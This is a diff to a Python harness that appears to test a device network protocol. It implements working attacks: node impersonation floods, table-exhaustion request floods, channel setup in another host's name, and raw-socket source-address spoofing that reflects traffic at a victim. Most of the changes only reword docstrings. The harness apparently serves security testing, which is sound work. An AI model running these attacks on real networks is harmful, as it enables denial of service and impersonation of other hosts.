@@ -1,7 +1,7 @@
-"""A host that nobody invited: one attack for each word of the command line.
+"""Attacks of a stranger on the network. The first word of the command line names one.
 
-It learns what it needs by listening, as any host can, and builds its datagrams itself. It prints "ready" when an
-attack that goes on has begun, and "done ..." with figures when one is over.
+The stranger learns ids, instances and ports by listening, as any host can, and builds its datagrams itself. It prints
+"ready" when it begins, and "done ..." with figures when the attack is over.
 """
 
 import os
@@ -51,7 +51,7 @@ def open_group():
 
 
 def listen_for(*types):
-    """The nodes of these types, in that order, as soon as each has said hello."""
+    """Waits until a node of each type has said hello. Returns the nodes in that order."""
     heard = {}
     with open_group() as group:
         while any(kind not in heard for kind in types):
@@ -72,7 +72,7 @@ def invented(port=None):
 
 
 def paced(count, rate):
-    """The numbers from 0 on, so many to the second; at once where the rate is 0."""
+    """Yields the numbers from 0 on, `rate` of them per second, or all at once if the rate is 0."""
     begin = time.monotonic()
     for at in range(count):
         wait = begin + at / rate - time.monotonic() if rate else 0
@@ -82,7 +82,8 @@ def paced(count, rate):
 
 
 def send_all(datagrams):
-    """Sends pairs of a datagram and where it goes, and tells how much that was and how much was answered."""
+    """Sends pairs of a datagram and its destination. Prints how many there were, and how many answers came."""
+    say("ready")
     begin = time.monotonic()
     sent = size = answered = 0
     with open_socket() as out:
@@ -106,7 +107,7 @@ def drain(opened):
 
 
 def close_every_request(device_type, client_type):
-    """One datagram in a client's name: every request that it has begun or will begin is over."""
+    """Says in a client's name that every request up to the highest number has ended."""
     device, client = listen_for(device_type, client_type)
     block = (wire.BLOCK1, wire.FIRST_OF_MORE_BLOCKS)
     last = 0x7FFFFFFF
@@ -120,9 +121,8 @@ def close_every_request(device_type, client_type):
 
 
 def part(seconds, *types):
-    """Says hello and goodbye in the name of nodes, again and again."""
+    """Says hello and goodbye in the name of other hosts' nodes, again and again."""
     nodes = listen_for(*types)
-    say("ready")
     send_all(
         (make(node, number(16)), wire.GROUP)
         for _ in paced(int(float(seconds) * 20), 20)
@@ -132,10 +132,9 @@ def part(seconds, *types):
 
 
 def restart(seconds, *types):
-    """Says hello in the name of nodes that have just been started again here."""
+    """Says hello as if other hosts' nodes had just been started again on this host."""
     nodes = listen_for(*types)
     other = number(32)
-    say("ready")
     send_all(
         (wire.hello(wire.Node(ADDRESS, node.port, node.id, instance, node.type), number(16)), wire.GROUP)
         for _ in paced(int(float(seconds) * 10), 10)
@@ -145,12 +144,11 @@ def restart(seconds, *types):
 
 
 def invent(count, rate):
-    say("ready")
     send_all((wire.hello(invented(), number(16)), wire.GROUP) for _ in paced(int(count), float(rate)))
 
 
 def fill(kind, device_type, count, rate):
-    """Requests that a device has to remember, each of another requester where the option says so."""
+    """Sends requests of a kind that fills one of the device's tables."""
     (device,) = listen_for(device_type)
     to = (device.address, device.port)
     one = invented()
@@ -164,7 +162,6 @@ def fill(kind, device_type, count, rate):
             yield wire.requester(invented(), secret=random.choice((b"", os.urandom(8))))
 
     code = wire.PUT if kind == "bodies" else wire.GET
-    say("ready")
     send_all(
         (wire.request(code, GARBAGE_KEY, at, os.urandom(8), b"", list(options(at))), to)
         for at in paced(int(count), float(rate))
@@ -176,10 +173,9 @@ def setup_string(port):
 
 
 def set_up(count, device_type):
-    """Asks for data channels to where nothing answers."""
+    """Asks for data channels to this host."""
     (device,) = listen_for(device_type)
     to = (device.address, device.port)
-    say("ready")
     send_all(
         (
             wire.request(wire.GET, ".sys.mediaservice.setup", number(16), os.urandom(8), setup_string(7000), [option]),
@@ -190,19 +186,21 @@ def set_up(count, device_type):
 
 
 def set_up_as(device_type, other_type, port):
-    """Asks for a data channel in the name of another host's node."""
+    """Asks for a data channel in the name of another host's node, to a port of the stranger's choice."""
     device, other = listen_for(device_type, other_type)
-    for secret in (b"", os.urandom(8)):
-        option = wire.requester(other, 1 << 20, 0, 1 << 20, secret)
-        value = setup_string(int(port))
-        send_all([(
-            wire.request(wire.GET, ".sys.mediaservice.setup", number(16), os.urandom(8), value, [option]),
-            (device.address, device.port),
-        )])
+    to = (device.address, device.port)
+
+    def datagrams():
+        for secret in (b"", os.urandom(8)):
+            option = wire.requester(other, 1 << 20, 0, 1 << 20, secret)
+            value = setup_string(int(port))
+            yield wire.request(wire.GET, ".sys.mediaservice.setup", number(16), os.urandom(8), value, [option]), to
+
+    send_all(datagrams())
 
 
 def listen(port):
-    """A host's service that is none of the device's business."""
+    """Accepts connections and prints the address of each."""
     with socket.create_server(("", int(port))) as listener:
         say("ready")
         while True:
@@ -212,7 +210,7 @@ def listen(port):
 
 
 class Pretender:
-    """Nodes that are found and alive, and that treat requests as they please."""
+    """Nodes that are found and answer pings. on_request decides what becomes of a request."""
 
     def __init__(self, device_type, count, on_request):
         self.on_request = on_request
@@ -278,7 +276,7 @@ def pretend(device_type, count, treatment):
 
 
 def connect(*targets):
-    """Connects to each address:port again and again, and keeps what it gets for a second."""
+    """Connects to each address:port again and again, and keeps each connection for a second."""
     counts = dict.fromkeys(targets, 0)
 
     def keep_connecting(target):
@@ -302,17 +300,18 @@ def connect(*targets):
 
 
 def forged(source, destination, payload):
-    """An IP packet with UDP; the kernel fills in the checksum of the head, and UDP may go without one."""
+    """An IP packet with a UDP datagram. The kernel fills in the IP checksum; 0 means that UDP has none."""
     udp = struct.pack(">HHHH", source[1], destination[1], 8 + len(payload), 0) + payload
     addresses = socket.inet_aton(source[0]) + socket.inet_aton(destination[0])
     return struct.pack(">BBHHHBBH", 0x45, 0, 20 + len(udp), 0, 0, 1, socket.IPPROTO_UDP, 0) + addresses + udp
 
 
 def forge(kind, device_type, victim, count, rate):
-    """Speaks in the name of another host's address, so that the answers go there."""
+    """Sends with another host's source address, so that answers go there."""
     (device,) = listen_for(device_type)
     to = (device.address, device.port)
     size = 0
+    say("ready")
     with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as raw:
         raw.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_IF, socket.inet_aton(ADDRESS))
         for _ in paced(int(count), float(rate)):
@@ -329,7 +328,7 @@ def forge(kind, device_type, victim, count, rate):
 
 
 def suffer():
-    """Counts the bytes of IP packets that come for this host; tells them for each line of standard input."""
+    """Counts the bytes of the IP packets for this host. Prints the sum for each line of standard input."""
     received = 0
     with open_socket(VICTIM_PORT), socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, socket.htons(0x0800)) as all_ip:
         all_ip.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 8 << 20)
@@ -348,7 +347,7 @@ def suffer():
 
 
 def foreign(device_type):
-    """A client of another make: for each line of standard input it sends one and the same POST."""
+    """A client without the requester option. Sends the same POST for each line of standard input."""
     (device,) = listen_for(device_type)
     datagram = wire.request(wire.POST, "add", 0x1234, b"foreign!", b"1")
     with open_socket() as own:
